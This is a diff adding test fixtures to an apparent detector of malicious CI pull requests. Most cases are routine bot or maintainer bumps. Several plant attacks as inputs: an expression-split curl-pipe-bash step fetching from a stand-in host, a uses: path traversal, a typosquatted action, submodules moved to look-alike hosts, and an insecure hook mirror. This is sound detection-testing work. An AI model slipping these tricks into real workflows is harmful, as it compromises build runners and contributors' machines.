@@ -58,6 +58,45 @@ function ciWorkflow(o: { nodes?: string; timeout?: number; runner?: string; name
   );
 }
 
+
+/** Like ciPr, for the zizmor-parity cases: each in a repository of its own (PR numbers 7000-7099). */
+function auditPr(repo: string, number: number, spec: Partial<PrFixtureSpec> & { files: FixtureFile[] }) {
+  return () => ciPr(number, { repo, ...spec })();
+}
+
+const PRE_COMMIT_CI = { login: 'pre-commit-ci[bot]', association: 'CONTRIBUTOR', createdAt: '2020-03-15T09:00:00Z' };
+const DEPENDABOT = { login: 'dependabot[bot]', association: 'CONTRIBUTOR', createdAt: '2019-04-16T22:34:25Z' };
+
+function preCommitConfig(ruffRev: string, blackRev: string, ruffRepo = 'https://github.com/astral-sh/ruff-pre-commit'): string {
+  return lines(
+    'ci:',
+    '  autoupdate_schedule: weekly',
+    'repos:',
+    '  - repo: https://github.com/pre-commit/pre-commit-hooks',
+    '    rev: v5.0.0',
+    '    hooks:',
+    '      - id: trailing-whitespace',
+    '      - id: end-of-file-fixer',
+    `  - repo: ${ruffRepo}`,
+    `    rev: ${ruffRev}`,
+    '    hooks:',
+    '      - id: ruff',
+    '        args: [--fix]',
+    '      - id: ruff-format',
+    '  - repo: https://github.com/psf/black',
+    `    rev: ${blackRev}`,
+    '    hooks:',
+    '      - id: black',
+  );
+}
+
+function gitlink(from: string, to: string): string {
+  return `@@ -1 +1 @@\n-Subproject commit ${from}\n+Subproject commit ${to}`;
+}
+
+const SUB_OLD = '3f2a9c1d5e7b8a0f4c6d2e1b9a8f7c6d5e4b3a21';
+const SUB_NEW = '9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d';
+
 export const CI_CASES: CorpusEntry[] = [
   {
     id: 'ci-benign-matrix-timeout',
@@ -471,5 +510,204 @@ export const CI_CASES: CorpusEntry[] = [
       checkRuns: [{ name: 'format' }],
     }),
     expect: { level: 'critical', action: 'request_changes', findings: ['pr-metadata-shell-payload'] },
+  },
+  // Audits added for zizmor parity, moved submodule pointers and routine automation edits (PRs 7000-7099).
+  {
+    id: 'ci-obfuscated-uses-traversal',
+    description:
+      'A first-time contributor "pins" the checkout action, but the uses: path climbs out of actions/checkout into another owner\'s repository (actions/checkout/../../<owner>/<repo>): the line reads as checkout, something else runs.',
+    fixture: auditPr('ledger-sync', 7000, {
+      title: 'ci: pin checkout to a commit',
+      author: NEWCOMER,
+      fork: true,
+      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow({ checkout: 'actions/checkout/../../checkout-mirror/setup@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2' }) }],
+    }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-obfuscation'] },
+  },
+  {
+    id: 'ci-obfuscated-download-pipe',
+    description:
+      'A PR adds a "cache warm-up" step whose command words are split with empty expressions (cu${{ \'\' }}rl … | ba${{ \'\' }}sh), so that a text search for curl | bash finds nothing.',
+    fixture: auditPr('tile-server', 7001, {
+      title: 'ci: warm the build cache',
+      author: NEWCOMER,
+      fork: true,
+      files: [
+        {
+          path: '.github/workflows/ci.yml',
+          base: ciWorkflow(),
+          head: ciWorkflow({ extraStep: ["      - run: cu${{ '' }}rl -sSfL https://cache-warmup.example.net/w.sh | ba${{ '' }}sh"] }),
+        },
+      ],
+    }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-obfuscation'] },
+  },
+  {
+    id: 'ci-typosquat-setup-node',
+    description: 'A PR titled like a routine bump moves actions/setup-node to actoins/setup-node (two letters swapped, another owner).',
+    fixture: auditPr('invoice-ui', 7002, {
+      title: 'ci: bump setup-node',
+      author: NEWCOMER,
+      fork: true,
+      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow().replace('actions/setup-node@', 'actoins/setup-node@') }],
+    }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-typosquat-action'] },
+  },
+  {
+    id: 'automation-submodule-url-and-pointer',
+    description: 'One PR moves the proto submodule to a look-alike host and moves its pointer to a commit from there: neither the repository nor the code is in the diff.',
+    fixture: auditPr('rpc-gateway', 7003, {
+      title: 'build: update protos',
+      author: NEWCOMER,
+      fork: true,
+      files: [
+        {
+          path: '.gitmodules',
+          base: lines('[submodule "third_party/proto"]', '\tpath = third_party/proto', '\turl = https://github.com/acme/proto.git'),
+          head: lines('[submodule "third_party/proto"]', '\tpath = third_party/proto', '\turl = https://git.acme-protos.example/acme/proto.git'),
+        },
+        { path: 'third_party/proto', status: 'modified', patch: gitlink(SUB_OLD, SUB_NEW), additions: 1, deletions: 1, base: `Subproject commit ${SUB_OLD}\n`, head: `Subproject commit ${SUB_NEW}\n` },
+      ],
+    }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['git-submodule-pointer-moved', 'git-submodule-moved'] },
+  },
+  {
+    id: 'automation-submodule-pointer-foreign-host',
+    description: 'A contributor moves the pointer of a submodule hosted outside GitHub (the base .gitmodules is read: the PR does not change it).',
+    fixture: auditPr('firmware-tools', 7004, {
+      title: 'chore: update vendored libusb',
+      author: NEWCOMER,
+      files: [{ path: 'vendor/libusb', status: 'modified', patch: gitlink(SUB_OLD, SUB_NEW), additions: 1, deletions: 1, base: `Subproject commit ${SUB_OLD}\n`, head: `Subproject commit ${SUB_NEW}\n` }],
+      baseFiles: { '.gitmodules': lines('[submodule "vendor/libusb"]', '\tpath = vendor/libusb', '\turl = https://git.libusb-mirror.example/libusb/libusb.git') },
+    }),
+    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion', 'request_changes'], findings: ['git-submodule-pointer-moved'] },
+  },
+  {
+    id: 'automation-pre-commit-insecure-url',
+    description: 'A PR moves a pre-commit hook repository to a plain-http mirror: the hooks run on every contributor\'s machine, fetched without transport security.',
+    fixture: auditPr('geo-notebooks', 7005, {
+      title: 'chore: use the internal ruff mirror',
+      author: NEWCOMER,
+      fork: true,
+      files: [{ path: '.pre-commit-config.yaml', base: preCommitConfig('v0.7.0', '24.8.0'), head: preCommitConfig('v0.7.0', '24.8.0', 'http://hooks.geo-mirror.example/astral-sh/ruff-pre-commit') }],
+    }),
+    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion', 'request_changes'], findings: ['insecure-url-scheme', 'pre-commit-remote-hook'] },
+  },
+  {
+    id: 'automation-pre-commit-ci-autoupdate',
+    description: 'The pre-commit.ci bot\'s weekly autoupdate moves the revs of the same hook repositories: routine, low, approvable.',
+    fixture: auditPr('survey-kit', 7006, {
+      title: '[pre-commit.ci] pre-commit autoupdate',
+      author: PRE_COMMIT_CI,
+      headBranch: 'pre-commit-ci-update-config',
+      priorPrs: { total: 40, merged: 38 },
+      commits: [{ message: '[pre-commit.ci] pre-commit autoupdate', authorLogin: 'pre-commit-ci[bot]' }],
+      files: [{ path: '.pre-commit-config.yaml', base: preCommitConfig('v0.7.0', '24.8.0'), head: preCommitConfig('v0.8.1', '24.10.0') }],
+    }),
+    expect: { level: 'low', action: 'approve', absentDrivers: ['sensitive-paths'], findings: ['pre-commit-rev-moved'] },
+  },
+  {
+    id: 'automation-pre-commit-repo-moved-by-bot-title',
+    description: 'Looks like an autoupdate, but one hook repository moves to another host: not routine, reported.',
+    fixture: auditPr('survey-kit-2', 7007, {
+      title: '[pre-commit.ci] pre-commit autoupdate',
+      author: NEWCOMER,
+      fork: true,
+      files: [{ path: '.pre-commit-config.yaml', base: preCommitConfig('v0.7.0', '24.8.0'), head: preCommitConfig('v0.8.1', '24.10.0', 'https://gitlab.example.org/astral-sh/ruff-pre-commit') }],
+    }),
+    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion', 'request_changes'], findings: ['pre-commit-remote-hook'] },
+  },
+  {
+    id: 'automation-submodule-own-org-bump',
+    description: 'Dependabot moves the pointer of a submodule in the repository\'s own organization: a note, low, approvable.',
+    fixture: auditPr('docs-site', 7008, {
+      title: 'Bump themes/acme-hugo from 3f2a9c1 to 9e8d7c6',
+      author: DEPENDABOT,
+      headBranch: 'dependabot/submodules/themes/acme-hugo-9e8d7c6',
+      commits: [{ message: 'Bump themes/acme-hugo from 3f2a9c1 to 9e8d7c6', authorLogin: 'dependabot[bot]' }],
+      files: [{ path: 'themes/acme-hugo', status: 'modified', patch: gitlink(SUB_OLD, SUB_NEW), additions: 1, deletions: 1, base: `Subproject commit ${SUB_OLD}\n`, head: `Subproject commit ${SUB_NEW}\n` }],
+      baseFiles: { '.gitmodules': lines('[submodule "themes/acme-hugo"]', '\tpath = themes/acme-hugo', '\turl = https://github.com/acme/acme-hugo.git') },
+    }),
+    expect: { level: 'low', action: 'approve', findings: ['git-submodule-pointer-moved'] },
+  },
+  {
+    id: 'automation-devcontainer-version-bump',
+    description: 'A maintainer moves the dev container to Node 22 (image tag) and a newer feature version: routine, low, approvable.',
+    fixture: auditPr('field-app', 7009, {
+      title: 'chore: Node 22 dev container',
+      files: [
+        {
+          path: '.devcontainer/devcontainer.json',
+          base: lines('{', '  "name": "field-app",', '  "image": "mcr.microsoft.com/devcontainers/typescript-node:1-20-bookworm",', '  "features": { "ghcr.io/devcontainers/features/github-cli:1": {} },', '  "postCreateCommand": "npm ci"', '}'),
+          head: lines('{', '  "name": "field-app",', '  "image": "mcr.microsoft.com/devcontainers/typescript-node:1-22-bookworm",', '  "features": { "ghcr.io/devcontainers/features/github-cli:2": {} },', '  "postCreateCommand": "npm ci"', '}'),
+        },
+      ],
+    }),
+    expect: { level: 'low', action: 'approve', noFindings: true, absentDrivers: ['sensitive-paths'] },
+  },
+  {
+    id: 'automation-dependabot-new-ecosystem',
+    description: 'A maintainer adds GitHub Actions updates to dependabot.yml (no cooldown): routine, a cooldown note at most, low, approvable.',
+    fixture: auditPr('field-app-2', 7010, {
+      title: 'chore: keep actions up to date',
+      files: [
+        {
+          path: '.github/dependabot.yml',
+          base: lines('version: 2', 'updates:', '  - package-ecosystem: npm', '    directory: /', '    schedule:', '      interval: weekly', '    cooldown:', '      default-days: 5'),
+          head: lines('version: 2', 'updates:', '  - package-ecosystem: npm', '    directory: /', '    schedule:', '      interval: weekly', '    cooldown:', '      default-days: 5', '  - package-ecosystem: github-actions', '    directory: /', '    schedule:', '      interval: weekly'),
+        },
+      ],
+    }),
+    expect: { level: 'low', action: 'approve', findings: ['dependabot-cooldown'], absentDrivers: ['sensitive-paths'] },
+  },
+  {
+    id: 'ci-archived-action-replaced',
+    description: 'A maintainer replaces the archived actions-rs/toolchain by dtolnay/rust-toolchain (pinned): only the uses: line changes; at most a note, low, approvable.',
+    fixture: auditPr('rust-ledger', 7011, {
+      title: 'ci: replace archived actions-rs/toolchain',
+      files: [
+        {
+          path: '.github/workflows/ci.yml',
+          base: lines('name: CI', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-24.04', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: actions-rs/toolchain@16499b5e05bf2e26879000db0c1d13f7e13fa3af # v1', '      - run: cargo test --locked'),
+          head: lines('name: CI', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-24.04', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: dtolnay/rust-toolchain@a54c7afa936fefeb4456b2dd8068152669aa8203 # stable', '      - run: cargo test --locked'),
+        },
+      ],
+      checkRuns: [{ name: 'test' }],
+    }),
+    expect: { level: 'low', action: 'approve', absentDrivers: ['sensitive-paths', 'finding:gha-archived-action'] },
+  },
+  {
+    id: 'ci-release-token-publishing',
+    description: 'A maintainer adds an npm release workflow that publishes with a stored NPM_TOKEN: a hygiene note (trusted publishing exists), not an alarm.',
+    fixture: auditPr('chart-kit', 7012, {
+      title: 'ci: publish releases to npm',
+      files: [
+        {
+          path: '.github/workflows/release.yml',
+          head: lines(
+            'name: Release',
+            'on:',
+            '  release:',
+            '    types: [published]',
+            'permissions:',
+            '  contents: read',
+            'jobs:',
+            '  publish:',
+            '    runs-on: ubuntu-24.04',
+            '    steps:',
+            `      - uses: ${CHECKOUT}`,
+            `      - uses: ${SETUP_NODE}`,
+            '        with:',
+            '          node-version: 22',
+            '          registry-url: https://registry.npmjs.org',
+            '      - run: npm ci',
+            '      - run: npm publish',
+            '        env:',
+            '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}',
+          ),
+        },
+      ],
+    }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], findings: ['gha-use-trusted-publishing'], absentDrivers: ['finding:gha-excessive-permissions'] },
   },
 ];
